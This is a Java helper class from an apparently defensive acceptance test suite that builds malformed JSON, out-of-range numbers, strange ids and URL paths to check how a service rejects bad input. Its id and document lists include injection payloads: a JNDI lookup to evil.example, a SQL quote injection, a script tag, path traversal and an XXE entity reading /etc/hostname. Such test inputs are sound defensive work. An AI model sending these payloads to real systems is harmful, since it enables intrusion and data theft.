package dev.parley.acceptance;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/** What nobody in their right mind sends, as pieces of JSON text. */
final class Nonsense {
  /** The most characters of a body or frame that are read. */
  static final int LIMIT = 131_072;

  private Nonsense() {}

  /** Texts that are not one JSON object, or not one that is read here. */
  static List<String> documents() {
    return List.of(
        "not JSON",
        "[]",
        "[{}]",
        "null",
        "true",
        "42",
        "\"action\"",
        "{",
        "}",
        "{\"action\"}",
        "{\"action\":}",
        "{\"action\":\"ping\"",
        "{\"action\":\"ping\"}}",
        "{\"action\":\"ping\"}{\"action\":\"ping\"}",
        "{\"action\":\"ping\",}",
        "{'action':'ping'}",
        "{action:\"ping\"}",
        "{\"action\":NaN}",
        "{\"action\":01}",
        "{\"action\":\"\\x\"}",
        "{\"action\":\"\\ud8\"}",
        "{\"action\":\"a\nb\"}",
        "\ufeff{\"action\":\"ping\"}",
        "{\"action\":\"ping\",\"action\":\"ping\"}",
        "{\"n\":" + "9".repeat(1_000) + "}",
        "{\"" + "n".repeat(1_000) + "\":1}",
        "[".repeat(10_000),
        "[".repeat(10_000) + "]".repeat(10_000),
        "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000),
        "{\"action\":" + "[".repeat(9) + "]".repeat(9) + "}",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]><x>&e;</x>",
        "\u0000");
  }

  /** Values that no field takes: wrong types, numbers out of every range, ids of strange forms. */
  static List<String> values() {
    List<String> values =
        new ArrayList<>(
            List.of(
                "null",
                "true",
                "false",
                "-1",
                "1.5",
                "1e999",
                "-1e999",
                "1e-999",
                "10000000000",
                "9223372036854775808",
                "18446744073709551616",
                "99999999999999999999999999999999",
                "[]",
                "[1]",
                "[\"a\"]",
                "{}",
                "{\"id\":\"a\"}",
                "[[[[[[]]]]]]",
                "\"\"",
                "\"" + "x".repeat(100_000) + "\""));
    strangeIds().values().forEach(id -> values.add("\"" + id + "\""));
    return values;
  }

  /** Ids that cannot be, as they stand in JSON, by what is strange about them. */
  static Map<String, String> strangeIds() {
    Map<String, String> ids = new LinkedHashMap<>();
    ids.put("blank", " ");
    ids.put("a key's separator", "legal-portal#vera-orlova");
    ids.put("only the separator", "#");
    ids.put("a slash", "a/b");
    ids.put("a way up", "..");
    ids.put("a long way up", "../../../../etc/hostname");
    ids.put("an encoded nothing", "%00");
    ids.put("a nothing", "\\u0000");
    ids.put("a line", "vera\\norlova");
    ids.put("letters of elsewhere", "вера-орлова");
    ids.put("a picture", "😀");
    ids.put("half a picture", "\\ud83d");
    ids.put("the other half", "\\ude00");
    ids.put("halves in the wrong order", "\\ude00\\ud83d");
    ids.put("a change of direction", "\\u202evera");
    ids.put("a quotation", "' OR '1'='1");
    ids.put("a tag", "<script>alert(1)</script>");
    ids.put("an expression", "${jndi:ldap://evil.example/a}");
    ids.put("too long by far", "A".repeat(3_000));
    return ids;
  }

  /** Strange ids as they stand in the path of a URL. */
  static List<String> paths() {
    return List.of(
        "%20",
        "%23",
        "a%23b",
        "%2F",
        "a%2Fb",
        "%2E%2E",
        "..%2F..%2Fme",
        "%00",
        "%0A",
        "%FF",
        "%C3%28",
        "%ED%A0%80",
        "%F0%9F%98%80",
        "%D0%B2%D0%B5%D1%80%D0%B0",
        "%27%20OR%201=1",
        "+",
        "~",
        "null",
        "undefined",
        "0",
        "-1",
        "A".repeat(21),
        "A".repeat(23),
        "A".repeat(3_000));
  }

  /** The object with one more field, or with the field a second time. */
  static String plus(String object, String name, String value) {
    String rest = object.substring(1);
    return "{\"" + name + "\":" + value + (rest.equals("}") ? "" : ",") + rest;
  }

  /** A string of JSON that makes its object exactly as long as is wanted. */
  static String filling(String before, String after, int characters) {
    return before + "x".repeat(characters - before.length() - after.length()) + after;
  }

  /** A text as a failure shows it. */
  static String shown(String text) {
    return text.length() < 300 ? text : text.substring(0, 300) + "…";
  }

  static byte[] bytes(String hex) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    Stream.of(hex.split(" ")).forEach(each -> bytes.write(Integer.parseInt(each, 16)));
    return bytes.toByteArray();
  }

  static byte[] around(String before, byte[] middle, String after) {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    bytes.writeBytes(before.getBytes(StandardCharsets.UTF_8));
    bytes.writeBytes(middle);
    bytes.writeBytes(after.getBytes(StandardCharsets.UTF_8));
    return bytes.toByteArray();
  }
}
